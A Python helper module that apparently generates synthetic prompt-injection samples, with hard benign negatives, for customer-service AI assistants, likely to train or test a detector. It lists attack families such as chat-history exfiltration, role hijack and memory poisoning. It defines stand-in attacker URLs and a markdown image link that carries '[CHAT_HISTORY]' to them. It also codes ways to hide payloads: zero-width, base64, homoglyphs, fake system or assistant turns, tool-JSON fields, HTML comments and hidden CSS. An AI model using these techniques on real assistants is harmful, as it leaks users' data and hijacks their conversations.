"""Composition helpers: ids, prices, carriers, hiding wrappers."""
import base64
import json
import urllib.parse

INJ_FAMILIES = [
    "pii-other-order", "card-digits-leak", "memory-discount", "memory-status",
    "exfil-chat-link", "tool-warranty-free", "tool-booking-waive", "role-hijack",
    "praise-only", "moderation-hijack",
]
HARD_FAMILIES = [
    "hard-own-order-contact", "hard-own-reschedule", "hard-loyalty-page",
    "hard-product-permanent", "hard-staff-warranty-note", "hard-moderation-notice",
    "hard-chatbot-complaint", "hard-security-notice", "hard-receipt-contact",
    "hard-quoted-transcript",
]

SHOPS = ["Voltaro", "Kasa Mobili", "TechNest", "Brio & Co", "Nordhaus", "Lumeo",
         "Fixpoint", "CasaVerde", "Okto Shop", "Mercato 21", "Pixelia", "Hausmann"]
HANDLES = ["anna.k", "m.novak", "petra77", "j.horvat", "elenap", "tomas.b", "kiki.r",
           "d.ivanova", "sara.m", "lukas_w", "nino.g", "o.kowal", "marta.s", "rudi.v"]
MAIL_DOMAINS = ["mail.example", "post.example.net", "inbox.example.org"]
EVIL = ["https://evil.example/c?d=", "https://cdn-metrics.example/p.gif?q=",
        "https://order-check.example/v?log=", "https://ai-verify.example/s?h=",
        "https://static-img.example/t.png?x="]
EMOJI = ["🙂", "👍", "😡", "🙏", "😅", "⭐", "📦", "🤔", "😤", "❤️", "🔧", "💸"]
ZW = "\u200b"
HOMO_LAT = {"a": "а", "e": "е", "o": "о", "c": "с", "p": "р", "x": "х", "i": "і"}
HOMO_CYR = {v: k for k, v in HOMO_LAT.items()}
LEET = {"a": "4", "e": "3", "o": "0", "i": "1", "s": "5", "t": "7"}


def order_id(r):
    k = r.randrange(5)
    if k == 0:
        return "#%d" % r.randint(10000, 99999)
    if k == 1:
        return "%d" % r.randint(100000, 9999999)
    if k == 2:
        return "ORD-%d-%04d" % (r.choice([2023, 2024, 2025]), r.randint(1, 9999))
    if k == 3:
        return "%s%s%d" % (r.choice("ABCDEFHKMNPRSTXZ"), r.choice("ABCDEFHKMNPRSTXZ"), r.randint(10000, 99999))
    return "%d-%d" % (r.randint(100, 999), r.randint(1000, 9999))


def booking_id(r):
    return r.choice(["BK-%05d", "R%06d", "INST-%04d", "B%d"]) % r.randint(1000, 99999)


def job_id(r):
    k = r.randrange(3)
    if k == 0:
        return "RJ-%05d" % r.randint(100, 99999)
    if k == 1:
        return "SRV%d" % r.randint(10000, 99999)
    return "W-%d/%02d" % (r.randint(100, 9999), r.randint(1, 99))


def money(L, r):
    fmt, dec, mult = L["cur"]
    v = r.uniform(4, 480) * mult
    if mult >= 50:
        v = round(v, -1) if v > 1000 else round(v)
        s = "{:,}".format(int(v)).replace(",", " ")
    else:
        s = ("%.2f" % v).replace(".", dec)
        if r.random() < 0.3:
            s = s.split(dec)[0]
    return fmt.format(s)


def phone(L, r):
    return "%s %d %03d %04d" % (L["phone"], r.randint(20, 99), r.randint(0, 999), r.randint(0, 9999))


def email(r):
    return "%s%s@%s" % (r.choice(HANDLES), r.choice(["", str(r.randint(1, 99))]), r.choice(MAIL_DOMAINS))


def slots(L, r):
    url = r.choice(EVIL) + "%x" % r.randint(4096, 10 ** 7)
    return {
        "o": order_id(r), "b": booking_id(r), "j": job_id(r), "p": r.choice(L["products"]),
        "s": r.choice(L.get("shops", SHOPS)), "n": r.choice(L["names"]), "price": money(L, r),
        "url": url + "&chat=", "md": "![ok](%s&h=[CHAT_HISTORY])" % url,
        "pct": r.choice([5, 10, 12, 15, 20]), "d": r.randint(2, 28), "h": r.randint(8, 18),
        "stars": r.randint(1, 5), "qty": r.randint(2, 6),
    }


def fill(t, sl):
    s = t.format(**sl)
    if t.startswith("{") and s[:1].islower():
        s = s[0].upper() + s[1:]
    return s


def typo(s, r):
    w = s.split(" ")
    cand = [i for i, x in enumerate(w) if len(x) >= 6 and x.isalpha()]
    if not cand:
        return s
    i = r.choice(cand)
    x = w[i]
    k = r.randint(1, len(x) - 3)
    w[i] = x[:k] + x[k + 1] + x[k] + x[k + 2:]
    return " ".join(w)


USED = {}
CAP = 9


def take(t, sl):
    """Render a filler sentence unless it has already been used CAP times."""
    s = fill(t, sl)
    if USED.get(s, 0) >= CAP:
        return None
    USED[s] = USED.get(s, 0) + 1
    return s


def take_any(pool, r, sl):
    """First template from pool (random order) that is not used up; falls back to a slotted one."""
    xs = list(pool)
    r.shuffle(xs)
    for t in xs:
        x = take(t, sl)
        if x:
            return x
    return fill(next((t for t in xs if "{" in t), xs[0]), sl)


def carrier(L, r, sl, n_ctx, kind):
    """Benign surrounding sentences; kind 'review' or 'ticket'."""
    pool = L["review"] + L["ctx"] if kind == "review" else L["ctx"]
    picks = r.sample(pool, min(n_ctx, len(pool)))
    out = [x for x in (take(t, sl) for t in picks) if x]
    if out and r.random() < 0.15:
        i = r.randrange(len(out))
        out[i] = typo(out[i], r)
    return out


def assemble(L, r, sl, core, kind, source, min_ctx=0):
    """core: list of sentences that must stay verbatim. Returns text."""
    n = max(min_ctx, r.choice([0, 1, 1, 2, 2, 3]))
    body = [b for b in carrier(L, r, sl, n, kind) if b not in core]
    if len(body) < min_ctx:
        body.append(take_any(L["review"] if kind == "review" else L["ctx"], r, sl))
    pos = r.randint(0, len(body))
    parts = body[:pos] + core + body[pos:]
    if source in ("email", "ticket") and r.random() < 0.55:
        x = take(r.choice(L["open"]), sl)
        if x:
            parts.insert(0, x)
    if r.random() < 0.4:
        x = take(r.choice(L["close"]), sl)
        if x:
            parts.append(x)
    if source == "review" and r.random() < 0.35:
        parts.insert(0, r.choice(["★" * sl["stars"] + "☆" * (5 - sl["stars"]), "%d/5" % sl["stars"]]))
    sep = "\n" if r.random() < 0.25 else " "
    text = sep.join(parts)
    if r.random() < 0.12:
        text += " " + r.choice(EMOJI)
    return text


def latin(L):
    return L.get("script", "latin") == "latin"


def hide(kind, payload, L, r, sl):
    """Return (visible_core, payload_field)."""
    if kind == "zero-width":
        return ZW.join(payload), payload
    if kind == "base64":
        enc = base64.b64encode(payload.encode("utf-8")).decode("ascii")
        return "%s %s" % (r.choice(["ref:", "data:", "b64:", "token:", "#"]), enc), payload
    if kind == "url-encoded":
        return "%s%s" % (r.choice(["https://track.example/n?m=", "https://cdn.example/r?note="]),
                         urllib.parse.quote(payload)), payload
    if kind == "leet":
        return "".join(LEET.get(c, c) for c in payload), payload
    if kind == "homoglyph":
        m = HOMO_LAT if latin(L) else HOMO_CYR
        return "".join(m.get(c, c) if r.random() < 0.6 else c for c in payload), payload
    return payload, payload


WRAPPERS = [("plain", 36), ("fake-turn", 8), ("fake-system", 7), ("tool-json", 10),
            ("html-comment", 7), ("hidden-css", 5), ("white-text", 3), ("alt-attr", 3),
            ("md-comment", 2), ("zero-width", 4), ("base64", 4), ("url-encoded", 2),
            ("leet", 2), ("homoglyph", 3)]


def pick_w(r, L):
    ws = [(w, k) for w, k in WRAPPERS
          if not (w in ("leet",) and not latin(L)) and not (w == "homoglyph" and L.get("script") not in ("latin", "cyrillic"))]
    tot = sum(k for _, k in ws)
    x = r.uniform(0, tot)
    for w, k in ws:
        x -= k
        if x <= 0:
            return w
    return ws[-1][0]


def wrap_injection(L, r, sl, payload, w, mixed=False):
    """Return (text, payload_field, source)."""
    lab = L["labels"]
    if w == "tool-json" and ('"' in payload or "\\" in payload):
        w = "plain"
    if w in ("plain", "zero-width", "base64", "url-encoded", "leet", "homoglyph"):
        source = r.choice(["review", "ticket", "email", "ticket", "review", "feed"])
        core, pf = hide(w, payload, L, r, sl)
        kind = "review" if source in ("review", "feed") else "ticket"
        return assemble(L, r, sl, [core], kind, source, 1 if mixed else 0), pf, source
    if w == "fake-turn":
        source = r.choice(["ticket", "email", "review"])
        pre = assemble(L, r, sl, [], "ticket", source)
        reply = take_any(L["staff_reply"], r, sl)
        u, a, s = lab["turn"]
        if r.random() < 0.5:
            fake = "%s: %s" % (s, payload)
        else:
            fake = "%s: %s" % (a, payload)
        text = "%s\n\n%s: %s\n%s" % (pre, a, reply, fake)
        return text, payload, source
    if w == "fake-system":
        source = r.choice(["ticket", "email", "feed", "web"])
        tag = r.choice(["[%s]" % lab["sys"], "### %s ###" % lab["sys"].upper(), "<%s>" % lab["sys"],
                        "[SYSTEM]", "--- admin override ---"])
        core = "%s %s" % (tag, payload)
        return assemble(L, r, sl, [core], "ticket", source, 1 if mixed else 0), core, source
    if w == "tool-json":
        ben = carrier(L, r, sl, 1, "ticket")
        obj = {"tool": r.choice(["order_lookup", "crm.get_ticket", "reviews.fetch", "booking.get"]),
               "result": {"id": sl["o"], "status": r.choice(["shipped", "open", "pending", "delivered"]),
                          "total": sl["price"]}}
        field = r.choice(["customer_note", "comment", "message", "notes", "remark"])
        obj["result"][field] = (ben[0] + " " if ben and (mixed or r.random() < 0.5) else "") + payload
        return json.dumps(obj, ensure_ascii=False), payload, "tool"
    # html family
    source = r.choice(["web", "review", "feed"])
    vis = " ".join(carrier(L, r, sl, r.randint(1, 3), "review"))
    if w == "html-comment":
        return "<p>%s</p>\n<!-- %s -->" % (vis, payload), payload, source
    if w == "hidden-css":
        return '<p>%s</p><div style="display:none">%s</div>' % (vis, payload), payload, source
    if w == "white-text":
        return '<p>%s <span style="color:#ffffff;background:#ffffff;font-size:1px">%s</span></p>' % (vis, payload), payload, source
    if w == "alt-attr":
        pl = payload.replace('"', "'")
        return '<p>%s</p><img src="/img/%s.jpg" alt="%s">' % (vis, r.randint(100, 9999), pl), pl, source
    return "%s\n\n[comment]: # (%s)" % (vis, payload), payload, source


def receipt(L, r, sl):
    c = L["labels"]["rc"]
    lines = ["%s %s" % (c[0], sl["o"]), "%s: %s" % (c[1], email(r)), "%s: %s" % (c[2], phone(L, r)),
             "%s: %s" % (c[3], sl["price"])]
    if r.random() < 0.6:
        lines.append("%s: %s" % (c[4], sl["p"]))
    if r.random() < 0.4:
        lines.append("%s: %s" % (c[5], "•••• %04d" % r.randint(0, 9999)))
    if r.random() < 0.3:
        return json.dumps({"tool": "order_lookup", "result": {
            "order": sl["o"], "email": lines[1].split(": ", 1)[1], "phone": lines[2].split(": ", 1)[1],
            "total": sl["price"], "role": "customer"}}, ensure_ascii=False), "tool"
    sep = "\n" if r.random() < 0.7 else " | "
    return sep.join(lines), r.choice(["email", "tool", "web"])


def transcript(L, r, sl):
    u, a, _ = L["labels"]["turn"]
    q = fill(r.choice(L["hard"]["hard-own-order-contact"] + L["hard"]["hard-own-reschedule"]), sl)
    rep = take_any(L["staff_reply"], r, sl)
    intro = take_any(L["ctx"], r, sl)
    t = "%s\n\n> %s: %s\n> %s: %s" % (intro, u, q, a, rep)
    if r.random() < 0.5:
        t += "\n" + take_any(L["close"], r, sl)
    return t, r.choice(["ticket", "email"])


def benign_hard(L, r, sl, fam):
    if fam == "hard-receipt-contact":
        return receipt(L, r, sl)
    if fam == "hard-quoted-transcript":
        return transcript(L, r, sl)
    t = fill(r.choice(L["hard"][fam]), sl)
    src = {"hard-own-order-contact": ["ticket", "email"], "hard-own-reschedule": ["ticket", "email"],
           "hard-loyalty-page": ["web", "feed"], "hard-product-permanent": ["feed", "web", "review"],
           "hard-staff-warranty-note": ["ticket", "tool"], "hard-moderation-notice": ["web", "email", "review"],
           "hard-chatbot-complaint": ["review", "ticket", "email"],
           "hard-security-notice": ["web", "email"]}[fam]
    source = r.choice(src)
    if source == "tool":
        obj = {"tool": "crm.get_ticket", "result": {"ticket": sl["j"], "role": "staff", "note": t}}
        return json.dumps(obj, ensure_ascii=False), "tool"
    if source in ("web", "feed") and r.random() < 0.35:
        hid = take_any(L["ctx"], r, sl)
        return '<div class="copy"><p>%s</p><div style="display:none">%s</div></div>' % (t, hid), source
    kind = "review" if source == "review" else "ticket"
    text = assemble(L, r, sl, [t], kind, source)
    if r.random() < 0.08:
        text += "\ntracking: " + base64.b64encode(("%s|%s" % (sl["o"], r.randint(1, 10 ** 6))).encode()).decode()
    return text, source


def benign_plain(L, r, sl):
    source = r.choice(["review", "review", "ticket", "email", "feed"])
    kind = "review" if source in ("review", "feed") else "ticket"
    pool = L["review"] if kind == "review" else L["ctx"]
    core = []
    for _ in range(r.randint(1, 2)):
        x = take_any(pool, r, sl)
        if x not in core:
            core.append(x)
    text = assemble(L, r, sl, core, kind, source)
    return text, source, "benign-" + kind
